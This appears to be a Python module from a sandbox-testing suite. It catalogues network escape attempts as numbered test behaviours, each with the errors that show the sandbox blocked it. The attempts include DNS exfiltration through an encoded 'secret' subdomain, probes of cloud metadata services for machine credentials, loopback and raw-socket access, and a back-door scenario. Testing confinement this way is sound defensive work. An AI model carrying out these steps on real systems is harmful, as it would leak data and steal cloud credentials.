"""Ways out of the machine, and services inside it."""

from __future__ import annotations

import socket
from typing import Any, Final

from ..behaviour import Attempt, Behaviour, Control
from ..scenarios import network as scenes
from .words import FILTER, NET, NOTHING, PROC, SCOPES, UNREACHABLE

_NONE, _AS_ROOT = Control.NONE, Control.SUCCEEDS_AS_ROOT
_FAMILY: Final = {"EAFNOSUPPORT": FILTER}
_ABSTRACT: Final = {"ECONNREFUSED": NET, "EPERM": SCOPES}
_NO_FAST_OPEN: Final = {"EOPNOTSUPP": FILTER, "ENOTSUP": FILTER, "EPERM": FILTER}
_STREAM, _DATAGRAM, _RAW, _PACKETS = 1, 2, 3, 5


def smuggler(method: str, *arguments: Any, stopped_by: dict[str, str], control: Control = Control.SUCCEEDS) -> Attempt:
    """An attempt of the plugin `smuggler`."""
    return Attempt(plugin="smuggler", method=method, arguments=arguments, stopped_by=stopped_by, control=control)


def native(function: str, *arguments: Any, stopped_by: dict[str, str], control: Control = Control.SUCCEEDS) -> Attempt:
    """An attempt of the plugin `intruder`, in C."""
    return Attempt(
        plugin="intruder",
        method="run",
        arguments=(function, *arguments),
        stopped_by=stopped_by,
        control=control,
        native=True,
    )


def families(*numbers: int) -> tuple[Attempt, ...]:
    """Sockets of these families, of every kind that one of them may have."""
    return tuple(
        smuggler("open_socket", number, kind, 0, stopped_by=_FAMILY, control=_NONE)
        for number in numbers
        for kind in (_STREAM, _DATAGRAM, _RAW, _PACKETS)
    )


NETWORK: Final = (
    Behaviour(
        number=29,
        title="talks to a service of the host by an abstract Unix socket",
        attempts=(
            smuggler("connect_unix", "$abstract", stopped_by=_ABSTRACT),
            smuggler("send_unix_datagram", "$abstract_datagram", stopped_by=_ABSTRACT),
        ),
    ),
    Behaviour(
        number=31,
        title="carries data out by DNS",
        attempts=(
            smuggler("resolve", "c2VjcmV0.example.com", stopped_by={"gaierror": NET}, control=_NONE),
            smuggler("ask_name_server", "127.0.0.53", stopped_by=UNREACHABLE | {"TimeoutError": NET}, control=_NONE),
            smuggler("ask_name_server", "192.0.2.53", stopped_by=UNREACHABLE, control=_NONE),
            smuggler("ask_name_server", "169.254.169.253", stopped_by=UNREACHABLE, control=_NONE),
        ),
    ),
    Behaviour(
        number=32,
        title="asks the cloud's metadata service for the machine's credentials",
        attempts=(
            smuggler("connect", "169.254.169.254", 80, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("connect", "169.254.170.2", 80, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("connect", "fd00:ec2::254", 80, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("connect", "100.100.100.200", 80, stopped_by=UNREACHABLE, control=_NONE),
        ),
    ),
    Behaviour(
        number=33,
        title="reaches services on the host's loopback",
        attempts=(
            smuggler("connect", "127.0.0.1", "$tcp4", stopped_by=UNREACHABLE),
            smuggler("connect", "::1", "$tcp6", stopped_by=UNREACHABLE),
            smuggler("connect", "::ffff:127.0.0.1", "$tcp4", stopped_by=UNREACHABLE),
            smuggler("connect_everywhere", "$tcp4", stopped_by={NOTHING: NET}),
            smuggler("connect_without_blocking", "127.0.0.1", "$tcp4", stopped_by=UNREACHABLE),
        ),
    ),
    Behaviour(
        number=34,
        title="uses UDP, raw sockets or IPv6",
        attempts=(
            smuggler("send_datagram", "192.0.2.53", 53, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("send_datagram", "2001:db8::1", 53, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("send_datagram_and_hear", "127.0.0.1", "$udp", stopped_by=UNREACHABLE | {"TimeoutError": NET}),
            smuggler("broadcast", stopped_by=UNREACHABLE, control=_NONE),
            smuggler("connect", "2001:db8::1", 443, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("connect", "192.0.2.1", 443, stopped_by=UNREACHABLE, control=_NONE),
            smuggler("open_socket", socket.AF_INET, _RAW, 1, stopped_by={"EPERM": FILTER}, control=_AS_ROOT),
            smuggler("open_socket", socket.AF_INET6, _RAW, 58, stopped_by={"EPERM": FILTER}, control=_AS_ROOT),
        ),
    ),
    Behaviour(
        number=35,
        title="uses TCP fast open, multipath TCP and other rare protocols",
        attempts=(
            smuggler("fast_open", "127.0.0.1", "$tcp4", stopped_by=_NO_FAST_OPEN),
            smuggler("fast_open_by_message", "127.0.0.1", "$tcp4", stopped_by=_NO_FAST_OPEN),
            smuggler("fast_open_by_option", "127.0.0.1", "$tcp4", stopped_by=_NO_FAST_OPEN | {"ENOPROTOOPT": FILTER}),
            native("fast_open", "$tcp4", stopped_by=_NO_FAST_OPEN),
            native("fast_open_many", "$tcp4", stopped_by=_NO_FAST_OPEN),
            *(
                smuggler(
                    "open_socket", socket.AF_INET, kind, protocol, stopped_by={"EPROTONOSUPPORT": FILTER}, control=_NONE
                )
                for kind, protocol in ((_STREAM, 262), (_STREAM, 132), (_STREAM, 256), (_DATAGRAM, 136), (_STREAM, 115))
            ),
            smuggler("open_socket", socket.AF_INET, 6, 33, stopped_by={"EPERM": FILTER}, control=_NONE),
        ),
    ),
    Behaviour(
        number=36,
        title="talks to the hypervisor by vsock",
        attempts=families(40),
    ),
    Behaviour(
        number=37,
        title="opens netlink, packet, kernel cryptography and every other family",
        attempts=(
            smuggler("open_socket", 16, _RAW, 0, stopped_by=_FAMILY),
            smuggler("open_socket", 38, _PACKETS, 0, stopped_by=_FAMILY, control=_NONE),
            *families(*(number for number in range(3, 47) if number not in (10, 40))),
            smuggler("open_pair", 30, stopped_by=_FAMILY, control=_NONE),
        ),
    ),
    Behaviour(
        number=38,
        title="is granted a name that later resolves to a private address",
        audit=("egress.refused",),
        scenario=scenes.resolve_to_private,
    ),
    Behaviour(
        number=77,
        title="opens a back door for somebody to come in by",
        scenario=scenes.serve,
    ),
    Behaviour(
        number=78,
        title="looks around the host's network",
        attempts=(
            smuggler(
                "list_interfaces", stopped_by={NOTHING: NET, "EAFNOSUPPORT": FILTER, "EPERM": FILTER}, control=_NONE
            ),
            smuggler("list_connections", "$tcp4", stopped_by={NOTHING: NET, "ENOENT": PROC, "EACCES": PROC}),
        ),
    ),
)
"""Behaviours after the network."""
